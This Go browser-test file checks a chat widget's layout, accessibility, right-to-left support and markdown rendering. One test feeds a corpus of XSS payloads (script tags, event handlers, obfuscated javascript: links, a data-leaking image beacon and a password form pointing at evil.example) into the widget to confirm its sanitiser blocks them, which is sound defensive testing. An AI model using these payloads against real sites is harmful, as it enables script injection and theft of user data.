package widget_test

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"
)

// Four corners at three widths: launcher and panel are on the screen, in their corner, and cover each other nowhere.
func cornersPart(t *testing.T, browser context.Context) {
	s := newSite(t, browser, siteOptions{plain: true})
	for _, corner := range []string{"bottom-right", "bottom-left", "top-right", "top-left"} {
		for _, width := range []int64{320, 768, 1440} {
			s.size(width, 700, "light")
			s.visit("/?position=" + corner)
			s.open()
			wrong := s.js(fmt.Sprintf(`
				const wrong = [], corner = %q, phone = innerWidth <= 480;
				const l = $('.launch').getBoundingClientRect(), p = $('dialog').getBoundingClientRect(), edge = phone ? 16 : 20;
				const say = (text) => wrong.push(text + ' ' + JSON.stringify([l, p]));
				if (Math.abs((corner.includes('left') ? l.left : document.documentElement.clientWidth - l.right) - edge) > 1) say('launcher sideways');
				if (Math.abs((corner.includes('top') ? l.top : innerHeight - l.bottom) - edge) > 1) say('launcher up or down');
				if (l.width !== 56 || l.height !== 56) say('launcher size');
				if (p.left < 0 || p.top < 0 || p.right > innerWidth || p.bottom > innerHeight) say('panel off the screen');
				if (phone !== $('dialog').matches(':modal')) say('modal');
				if (phone && (p.width !== innerWidth || p.height !== innerHeight)) say('not full');
				if (!phone && !(p.bottom <= l.top || p.top >= l.bottom)) say('overlap');
				if (!phone && Math.abs(corner.includes('left') ? p.left - l.left : p.right - l.right) > 1) say('not aligned');
				if (document.documentElement.scrollWidth > innerWidth) say('scrolls');
				return wrong`, corner))
			if wrong != "[]" {
				t.Errorf("%s at %d px: %s", corner, width, wrong)
			}
			if corner != "bottom-right" {
				s.shot(fmt.Sprintf("%s-%d", corner, width))
			}
			s.js("Parley('close')")
		}
	}
	s.clean()
}

// On a phone the panel is a modal dialog over the whole screen, with text that does not make iOS zoom.
func phonePart(t *testing.T, browser context.Context) {
	s := newSite(t, browser, siteOptions{})
	s.fake.answer = func(string) []step {
		return []step{say("We have three sizes:\n\n| Size | Width | Price |\n|---|--:|--:|\n| S | 40 cm | 12.00 € |\n| M | 60 cm | 18.50 € |\n\nOrder with\n\n```sh\ncurl https://shop.example/order?size=M&colour=a-very-long-value-that-does-not-fit\n```\n")}
	}
	s.must(chromedp.Do(s.ctx, chromedp.EmulateViewport(390, 844, chromedp.EmulateMobile, chromedp.EmulateTouch, chromedp.EmulateScale(2))))
	_, err := chromedp.Call(s.ctx, emulation.SetTouchEmulationEnabled, emulation.SetTouchEmulationEnabledParams{Enabled: true})
	s.must(err)
	s.prefer("light")
	s.visit("/")
	s.wait("$('.launch')")
	s.shot("phone-closed")
	s.open()
	s.is("$root().activeElement.className", "log") // not the field: its keyboard would cover the greeting
	s.is("$('dialog').matches(':modal')", "true")
	s.is("parseFloat(getComputedStyle($('textarea')).fontSize) >= 16", "true")
	s.is("$$('button').filter((b) => b.checkVisibility() && !b.closest('.log') && b.className.includes('icon')).every((b) => b.offsetWidth >= 44 && b.offsetHeight >= 44)", "true")
	s.ask("Sizes?")
	s.wait("$$('td').length === 6 && $b('Good answer')")
	s.is("document.documentElement.scrollWidth <= innerWidth && $('.log').scrollWidth <= $('.log').clientWidth", "true")
	for _, scheme := range []string{"light", "dark"} {
		s.prefer(scheme)
		s.wait("$('dialog').dataset.theme === '" + scheme + "'")
		s.audit("phone " + scheme)
		s.shot("phone-" + scheme)
	}
	// The keyboard takes part of the screen: only the visual viewport knows.
	s.js("Object.defineProperties(visualViewport, {height: {value: 500, configurable: true}, offsetTop: {value: 40, configurable: true}}); visualViewport.dispatchEvent(new Event('resize'))")
	s.is("JSON.stringify([$('dialog').offsetTop, $('dialog').offsetHeight])", "[40,500]")
	s.shot("phone-keyboard")
	s.js("delete visualViewport.height; delete visualViewport.offsetTop; visualViewport.dispatchEvent(new Event('resize'))")
	// Tab goes round within the dialog, and Escape gives the page back.
	for range 20 {
		s.key("Tab", 9)
		if s.text("document.activeElement === document.body || document.activeElement.tagName === 'PARLEY-CHAT'") != "true" {
			t.Fatalf("the focus left the modal dialog for %s", s.text("document.activeElement.outerHTML"))
		}
	}
	s.key("Escape", 27)
	s.wait("!$open() && $root().activeElement === $('.launch')")
	s.clean()
}

// Everything is done with the keyboard alone.
func keyboardPart(t *testing.T, browser context.Context) {
	s := newSite(t, browser, siteOptions{})
	s.size(1024, 800, "light")
	s.visit("/")
	s.wait("$('.launch')")
	focused := "($root().activeElement?.ariaLabel || $root().activeElement?.getAttribute('aria-label') || $root().activeElement?.innerText || document.activeElement.innerText)"
	tabTo := func(label string, modifiers ...int64) {
		t.Helper()
		var seen []string
		for range 25 {
			s.key("Tab", 9, modifiers...)
			got := s.text(focused)
			if got == label {
				if ring := s.text("getComputedStyle($root().activeElement).outlineStyle"); ring == "none" {
					t.Errorf("no ring around %s", label)
				}
				return
			}
			seen = append(seen, got)
		}
		t.Fatalf("Tab never came to %q: %q", label, seen)
	}
	tabTo("Help")
	s.is("$('.launch').ariaExpanded", "false")
	s.until("the focus prefetches the panel", func() bool { return s.fake.count("GET /widget/assets/panel") == 1 })
	if s.fake.count("POST") > 0 {
		t.Error("the focus alone began a conversation")
	}
	s.key("Enter", 13)
	s.wait("$open() && $root().activeElement === $('textarea')")
	s.is("$('.launch').ariaExpanded", "true")
	s.wait("$t('.state') === 'Online'")
	s.must(chromedp.Do(s.ctx, chromedp.KeyEvent("First")))
	s.key("Enter", 13, 8) // Shift: a new line
	s.must(chromedp.Do(s.ctx, chromedp.KeyEvent("second")))
	s.key("Enter", 13)
	s.wait("$t('.user .text') === 'First\\nsecond' && $b('Good answer')")
	s.wait("$root().activeElement === $('textarea')")
	tabTo("Bad answer", 8)
	s.key("Enter", 13)
	s.wait("$b('Bad answer').ariaPressed === 'true'")
	tabTo("More", 8)
	s.key("Enter", 13)
	s.wait("$b('New conversation')")
	s.key("Escape", 27) // closes the menu only
	s.wait("!$b('New conversation') && $open()")
	s.is(focused, "More")
	s.key("Enter", 13)
	tabTo("New conversation")
	s.key("Enter", 13)
	s.wait("$b('Delete and begin anew')")
	s.wait(focused + " === 'Cancel'")
	s.key("Escape", 27)
	s.wait("!$b('Delete and begin anew') && $open() && $root().activeElement === $('textarea')")
	s.key("Escape", 27)
	s.wait("!$open() && $root().activeElement === $('.launch')")
	s.clean()
}

// A screen reader hears each finished sentence once.
func screenReaderPart(t *testing.T, browser context.Context) {
	s := newSite(t, browser, siteOptions{})
	s.fake.answer = func(string) []step {
		return []step{say("The **shop** opens at nine. It clo"), pause(), say("ses at six.\n\nSee [the map](https://example.com"), pause(), say("/map)")}
	}
	s.size(1024, 800, "light")
	s.visit("/")
	s.open()
	s.js("new MutationObserver(() => $said.push($('[role=status]').textContent)).observe($('[role=status]'), {childList: true, characterData: true, subtree: true})")
	s.is("$('.log').getAttribute('role') + ' ' + $('.log').ariaLive + ' ' + $$('[aria-live=polite], [role=status]').length", "log off 1")
	s.ask("When?")
	s.wait("$said.join('|') === 'Writing an answer…|The shop opens at nine.'")
	s.fake.release(1)
	s.wait("$said.join('|') === 'Writing an answer…|The shop opens at nine.|It closes at six.'")
	s.fake.release(1)
	s.wait("$said.join('|') === 'Writing an answer…|The shop opens at nine.|It closes at six.|See the map'")
	s.clean()
}

func rightToLeftPart(t *testing.T, browser context.Context) {
	s := newSite(t, browser, siteOptions{lang: "de", js: "document.documentElement.dir = 'rtl'"})
	s.fake.answer = func(string) []step {
		return []step{say("نعم، الطلب في الطريق:\n\n1. الأول\n2. `npm install`\n\nThe rest is English.")}
	}
	s.size(1024, 800, "light")
	s.visit("/")
	s.open()
	s.is("$('textarea').placeholder + ' ' + $('dialog').lang + ' ' + $('dialog').dir", "Ask something de rtl")
	s.ask("أين طلبي؟")
	s.wait("$b('Gute Antwort')")
	s.is("getComputedStyle($('.assistant:last-of-type .text')).direction + getComputedStyle($('.user .text')).direction", "rtlrtl")
	s.is("$b('Senden').getBoundingClientRect().left < $('textarea').getBoundingClientRect().left", "true")
	s.audit("right to left")
	s.shot("right-to-left")
	s.clean()
}

const corpus = `<script>pwned = 1</script>
<img src=x onerror="pwned = 2">
<svg onload="pwned = 3"><animate onbegin="pwned = 4" attributeName=x></svg>
<iframe srcdoc="<script>parent.pwned = 5</script>"></iframe>
<a href="javascript:pwned = 6">a</a> <b onmouseover="pwned = 7">b</b>
<style>* { display: none }</style><link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/">

[one](javascript:pwned=8) [two](JaVaScRiPt:pwned=9) [three](java&#115;cript:pwned=10) [four](<java
script:pwned=11>) [five](data:text/html,<script>pwned=12</script>) [six](vbscript:x) [seven](&#x6a;avascript:pwned=13)
[eight](%6aavascript:pwned=14) [nine](file:///etc/passwd) [ten](blob:https://x/1) [eleven]( javascript:pwned=15 "t")
<javascript:pwned=16> [twelve](//evil.example/p) [thirteen](https://ok.example/" onclick="pwned=17)
![i](https://evil.example/leak.png?q=secret) ![j](javascript:pwned=18) ![k](data:image/svg+xml,<svg onload=pwned=19>)
[![n](https://evil.example/n.png)](javascript:pwned=20) ![x" onerror="pwned=21](https://evil.example/"onerror="pwned=22)
[ref]: javascript:pwned=23
[ref] [ref][ref] &lt;img src=x onerror=pwned=24&gt; ` + "`<img src=x onerror=pwned=25>`" + `

` + "```html\"><img/src/onerror=pwned=26>\n<img src=x onerror=pwned=27>\n```" + `

| <img src=x onerror=pwned=28> | [t](javascript:pwned=29) |
|---|---|
| <script>pwned=30</script> | ![](https://evil.example/t.png) |

<div style="position:fixed;inset:0;background:url(https://evil.example/b.png)">over everything</div>
<form action="https://evil.example"><input name=password></form>
`

// Whatever an answer contains is text: nothing runs, nothing is loaded, no link leads to a script.
func hostileAnswerPart(t *testing.T, browser context.Context) {
	s := newSite(t, browser, siteOptions{})
	half := len(corpus) / 2
	s.fake.answer = func(string) []step {
		steps := []step{say(corpus[:half]), pause(), say(corpus[half:])}
		for i := 0; i < len(corpus); i += 97 { // and in pieces that end anywhere
			steps = append(steps, say(corpus[i:min(i+97, len(corpus))]))
		}
		return append(steps, pause(), say(strings.Repeat(">", 5000)+strings.Repeat("- ", 3000)+strings.Repeat("[", 5000)+strings.Repeat("*_`", 3000)))
	}
	s.size(1024, 800, "light")
	s.visit("/")
	s.open()
	safe := func() {
		t.Helper()
		s.is("typeof pwned", "undefined")
		s.is("$$('.log img, .log script, .log iframe, .log style, .log link, .log base, .log form, .log input, .log object, .log embed, .log svg:not(button > svg)').length", "0")
		s.is("$$('.log *').flatMap((e) => [...e.attributes]).filter((a) => /^on|^style$|^srcdoc$|^action$/.test(a.name)).map((a) => a.name + '=' + a.value).join(' ')", "")
		s.is("$$('.log a').filter((a) => !['http:', 'https:', 'mailto:'].includes(a.protocol) || a.target !== '_blank' || a.rel !== 'noopener noreferrer nofollow').map((a) => a.href).join(' ')", "")
		s.js("for (const e of $$('.log a, .log b, .log span')) e.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}))")
		s.is("performance.getEntriesByType('resource').map((r) => r.name).filter((n) => n.includes('evil.example')).join(' ')", "")
		s.is("typeof pwned", "undefined")
	}
	s.ask("<img src=x onerror=pwned=31> [x](javascript:pwned=32)")
	s.is("$t('.user .text')", "<img src=x onerror=pwned=31> [x](javascript:pwned=32)")
	s.wait("$t('.assistant').includes('pwned = 6')")
	safe()
	s.fake.release(1)
	s.wait("$t('.assistant').split('over everything').length === 3")
	safe()
	s.shot("hostile-answer")
	s.fake.release(1)
	s.wait("$b('Good answer')")
	safe()
	s.reload()
	s.wait("$b('Good answer')")
	safe()
	s.clean()
}

// What good answers contain looks as it should, and the finished text is what the growing one became.
func markdownPart(t *testing.T, browser context.Context) {
	s := newSite(t, browser, siteOptions{})
	text := "# Title\n\nSome *text* with `code`, ~~old~~, a\nnew line, &lt;tags&gt; &amp; [a link][1] and https://auto.example.\n\n" +
		"1. one\n2. two\n   - inner\n   - [x] done\n\n   second paragraph\n3. three\n\n> quoted **words**\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```go\nfunc main() { fmt.Println(\"<&>\") }\n```\n\n---\n\n![A cat](https://img.example/cat.png) mail me@example.com\n\n[1]: https://defined.example/later\n"
	s.fake.answer = func(string) []step {
		var steps []step
		for i := 0; i < len(text); i += 23 {
			steps = append(steps, say(text[i:min(i+23, len(text))]), pause())
		}
		return append(steps, say("\nEnd."))
	}
	s.size(1024, 1000, "light")
	s.visit("/")
	s.open()
	s.ask("Everything")
	for range (len(text) - 1) / 23 { // each piece is drawn, unless the machine is busy
		s.fake.release(1)
		s.js("await new Promise((r) => setTimeout(r, 40))")
	}
	s.wait("$$('td').length === 2 && $$('.assistant a').some((a) => a.href === 'mailto:me@example.com')")
	const outline = "[...$('.message:last-of-type .text').querySelectorAll('*')].filter((e) => !e.closest('button')).map((e) => e.tagName.toLowerCase()).join(' ')"
	growing := s.text(outline)
	s.fake.release(1)
	s.wait("$t('.assistant').endsWith('End.') || $t('.assistant').includes('End.')")
	s.wait("$b('Good answer')")
	whole := s.text(outline)
	// A link that is defined after its use becomes one when the text is whole, if not before.
	if same := strings.NewReplacer("del br a a", "del br a"); same.Replace(whole) != same.Replace(growing)+" p" {
		t.Errorf("growing: %s\nwhole:   %s", growing, whole)
	}
	s.is("$('.code code').innerText", `func main() { fmt.Println("<&>") }`)
	s.is("$$('.message:last-of-type a').map((a) => a.href).join(' ')", "https://defined.example/later https://auto.example/ https://img.example/cat.png mailto:me@example.com")
	s.is("$t('.message:last-of-type .text').includes('<tags> & a link')", "true")
	s.js("$('.log').scrollTop = 0")
	s.shot("markdown")
	s.audit("markdown")
	// A long answer is read in pieces: what is finished keeps its elements.
	s.fake.with(func() {
		s.fake.answer = func(string) []step {
			return []step{say(strings.Repeat("A finished paragraph with **bold** text.\n\n", 200)), pause(), say("tail "), pause(), say("end")}
		}
	})
	s.ask("Long")
	s.wait("$$('.message:last-of-type p').length === 200")
	s.js("window.first = $('.message:last-of-type p'); window.touched = 0; new MutationObserver((m) => { touched += m.length }).observe($('.message:last-of-type .text'), {childList: true, subtree: true, characterData: true})")
	s.fake.release(1)
	s.wait("$t('.message:last-of-type').includes('tail')")
	s.is("touched <= 2 && first === $('.message:last-of-type p')", "true")
	s.fake.release(1)
	s.wait("$b('Answer again') && $t('.message:last-of-type').includes('tail end')")
	s.clean()
}
